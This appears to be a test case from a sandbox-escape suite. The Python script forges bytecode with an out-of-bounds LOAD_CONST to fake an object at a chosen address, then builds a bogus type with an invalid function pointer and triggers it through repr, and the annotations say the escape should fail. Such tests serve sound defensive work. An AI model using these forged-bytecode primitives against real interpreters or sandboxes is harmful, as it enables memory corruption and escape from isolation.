import opcode
import struct
import types

RESUME, EXTENDED_ARG, LOAD_CONST, RETURN_VALUE = (
    opcode.opmap[name] for name in ("RESUME", "EXTENDED_ARG", "LOAD_CONST", "RETURN_VALUE")
)
BYTES_DATA, TUPLE_ITEMS = 16, 12


def object_at(address):
    pointer = struct.pack("<I", address)
    index = ((id(pointer) + BYTES_DATA - (id(()) + TUPLE_ITEMS)) // 4) & 0x3FFFFFFF
    high = [part for shift in (24, 16, 8) for part in (EXTENDED_ARG, index >> shift & 255)]
    forged = bytes([RESUME, 0, *high, LOAD_CONST, index & 255, RETURN_VALUE, 0])
    return types.FunctionType((lambda: 1).__code__.replace(co_code=forged, co_consts=()), {})()


# A function pointer that is no index of the table.
kind = bytearray(struct.pack("<I", 0x7fffffff) * 120)
kind[0:4], kind[4:8] = struct.pack("<I", 1 << 30), struct.pack("<I", id(type))
kind = bytes(kind)
thing = struct.pack("<II", 1 << 30, id(kind) + BYTES_DATA)
print("before", end="", flush=True)
repr(object_at(id(thing) + BYTES_DATA))
#> class: "escape"
#> outcome: ["failure"]
#> stdout_starts: "before"
